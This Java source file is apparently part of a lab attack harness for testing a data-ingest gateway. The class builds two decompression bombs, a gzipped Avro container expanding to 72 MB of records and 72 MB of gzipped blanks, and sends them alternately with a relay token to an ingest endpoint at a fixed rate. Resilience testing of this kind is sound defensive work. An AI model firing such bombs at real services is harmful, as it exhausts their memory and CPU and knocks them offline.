package io.millrace.lab.siege;

import io.millrace.wire.block.BlockBuffer;
import io.millrace.wire.record.GatewayRecords;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/**
 * Decompression bombs: a deflated Avro container, gzipped to less than a kilobyte, that expands to
 * 72 MB and six million records; and 72 MB of gzipped blanks.
 */
final class Bombs implements Attack {
  private static final int UNPACKED_BYTES = 72_000_000;
  private static final double PER_SECOND = 4;
  private static final String AVRO = "Content-Type: application/avro\r\nContent-Encoding: gzip\r\n";
  private static final String JSON = "Content-Type: application/json\r\nContent-Encoding: gzip\r\n";

  private final byte[] avro = gzip(container());
  private final byte[] json = gzip(" ".repeat(UNPACKED_BYTES).getBytes(StandardCharsets.US_ASCII));
  private int turn;

  @Override
  public void strike(Attacker from) throws IOException {
    boolean isAvro = turn++ % 2 == 0;
    from.ask(
        from.target().ingest(),
        Requests.records(from.target().relayToken(), isAvro ? AVRO : JSON, isAvro ? avro : json));
    from.pace(PER_SECOND);
  }

  /** Size of the Avro body on the wire. */
  int bytes() {
    return avro.length;
  }

  private static byte[] container() {
    BlockBuffer record = new BlockBuffer(32);
    text("m", record);
    varint(System.currentTimeMillis(), record);
    varint(1, record);
    varint(1, record);
    varint(0, record); // no form
    varint(0, record); // no flag
    int records = UNPACKED_BYTES / record.length();
    ByteArrayOutputStream deflated = new ByteArrayOutputStream();
    Deflater raw = new Deflater(Deflater.BEST_COMPRESSION, true);
    try (DeflaterOutputStream out = new DeflaterOutputStream(deflated, raw)) {
      for (int i = 0; i < records; i++) {
        out.write(record.bytes(), 0, record.length());
      }
    } catch (IOException e) {
      throw new IllegalStateException(e); // impossible for an array
    } finally {
      raw.end();
    }
    byte[] sync = new byte[16];
    BlockBuffer file = new BlockBuffer(1 << 17);
    file.put(new byte[] {'O', 'b', 'j', 1}, 0, 4);
    Map<String, String> header =
        Map.of("avro.schema", GatewayRecords.SCHEMA.avro(), "avro.codec", "deflate");
    varint(header.size(), file);
    header.forEach(
        (key, value) -> {
          text(key, file);
          text(value, file);
        });
    varint(0, file);
    file.put(sync, 0, sync.length);
    varint(records, file);
    varint(deflated.size(), file);
    file.put(deflated.toByteArray(), 0, deflated.size());
    file.put(sync, 0, sync.length);
    return java.util.Arrays.copyOf(file.bytes(), file.length());
  }

  private static byte[] gzip(byte[] plain) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
      out.write(plain);
    } catch (IOException e) {
      throw new IllegalStateException(e); // impossible for an array
    }
    return packed.toByteArray();
  }

  private static void text(String text, BlockBuffer out) {
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    varint(bytes.length, out);
    out.put(bytes, 0, bytes.length);
  }

  /** Writes a zigzag varint, Avro's encoding of longs. */
  private static void varint(long value, BlockBuffer out) {
    long left = value << 1 ^ value >> 63;
    for (; (left & ~0x7FL) != 0; left >>>= 7) {
      out.putByte((int) ((left & 0x7F) | 0x80));
    }
    out.putByte((int) left);
  }
}
